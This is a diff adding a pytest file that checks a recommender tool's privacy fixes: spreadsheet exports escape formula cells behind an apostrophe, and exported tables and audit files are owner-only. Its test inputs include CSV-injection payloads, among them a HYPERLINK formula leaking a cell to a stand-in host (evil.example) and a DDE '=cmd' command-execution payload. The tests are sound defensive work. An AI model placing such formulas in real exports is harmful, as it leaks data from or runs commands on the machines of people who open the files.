@@ -1,0 +1,123 @@
+"""Privacy review of 2026-12-08: what the product writes about people.
+
+- A table the CLI writes as CSV/TSV (``score``, ``allocate``, their crisis lists) holds the
+  program's raw person ids: an id such as ``=HYPERLINK(...)`` ran as a formula in the
+  spreadsheet that opened the file (CSV injection). It is written behind an apostrophe now.
+- Those tables and ``audit export --out`` files (person ids or hashes, scores, crisis flags) were
+  left readable by every user of the machine (mode 0644 under the usual umask 022) while the
+  audit store they come from is its owner's alone. They are owner-only now.
+"""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import os
+import stat
+from datetime import datetime, timezone
+
+import pandas as pd
+import pytest
+
+from recommender.cli import main
+from recommender.cohort import read_cohort, write_cohort
+from recommender.service import AuditLog
+from service_fixtures import service_home  # noqa: F401  (fixture)
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&B2,"open")',
+    "+1-202-555-0101",
+    "-2+3",
+    "@SUM(1+1)",
+]
+
+
+def _scored(ids) -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "person_id": ids,
+            "recommended": ["coaching"] * len(ids),
+            "effect_coaching": [-1.5] * len(ids),
+            "ee": [31] * len(ids),
+        }
+    )
+
+
+@pytest.fixture
+def umask_022():
+    previous = os.umask(0o022)
+    try:
+        yield
+    finally:
+        os.umask(previous)
+
+
+def _mode(path) -> int:
+    return stat.S_IMODE(os.stat(path).st_mode)
+
+
+@pytest.mark.parametrize("name", ["scored.csv", "scored.tsv", "scored.csv.gz"])
+def test_a_text_cell_a_spreadsheet_would_run_is_written_behind_an_apostrophe(tmp_path, name):
+    path = write_cohort(_scored([*FORMULAS, "p-000123"]), tmp_path / name)
+    opener = gzip.open if name.endswith(".gz") else open
+    with opener(path, "rt", encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle, delimiter="\t" if ".tsv" in name else ","))
+    cells = [row["person_id"] for row in rows]
+    assert cells == [f"'{f}" for f in FORMULAS] + ["p-000123"]
+    # Numbers are numbers, not formulas: a negative effect stays as it was.
+    assert {row["effect_coaching"] for row in rows} == {"-1.5"}
+    # A category column (as the scored table's arms may be) is made safe as well.
+    categories = _scored(["p-1", "p-2"]).assign(
+        recommended=pd.Categorical(["=cmd|' /C calc'!A0", "coaching"])
+    )
+    again = read_cohort(write_cohort(categories, tmp_path / f"cat-{name}"))
+    assert list(again["recommended"]) == ["'=cmd|' /C calc'!A0", "coaching"]
+
+
+def test_parquet_keeps_the_ids_as_they_are(tmp_path):
+    path = write_cohort(_scored([*FORMULAS, "p-1"]), tmp_path / "scored.parquet")
+    assert list(pd.read_parquet(path)["person_id"]) == [*FORMULAS, "p-1"]
+
+
+@pytest.mark.parametrize("name", ["plan.csv", "plan.parquet", "plan.csv.gz"])
+def test_a_table_of_people_is_readable_by_its_owner_only(tmp_path, umask_022, name):
+    out = tmp_path / name
+    out.write_text("an earlier file, readable by all\n")
+    out.chmod(0o644)
+    write_cohort(_scored(["p-1", "p-2"]), out)
+    assert _mode(out) == 0o600
+    assert [p.name for p in tmp_path.iterdir()] == [name]  # no temporary left
+
+
+def _one_answer(home) -> None:
+    AuditLog(f"sqlite:///{home / 'audit.db'}", salt="s" * 16).append(
+        [
+            {
+                "request_id": "r1",
+                "model_version": "2",
+                "caller_role": "program",
+                "person_id": "p-1",
+                "safety_level": "routine",
+                "recommended": "coaching",
+                "ranking_meaningful": True,
+                "effects": {"coaching": [-3.0, -5.0, -1.0]},
+                "logged_at": datetime.now(timezone.utc),
+            }
+        ]
+    )
+
+
+@pytest.mark.parametrize("table", ["recommendations", "outcomes", "erasures"])
+@pytest.mark.parametrize("name", ["audit.csv", "audit.jsonl"])
+def test_an_audit_export_file_is_readable_by_its_owner_only(
+    service_home, tmp_path, umask_022, capsys, table, name
+):
+    _one_answer(service_home)
+    out = tmp_path / "exports" / name
+    out.parent.mkdir()
+    out.write_text("")
+    out.chmod(0o644)
+    assert main(["audit", "export", "--table", table, "--out", str(out)]) == 0
+    assert _mode(out) == 0o600
+    if table == "recommendations":
+        assert "p-1" not in out.read_text() != ""  # the answer, by its hash
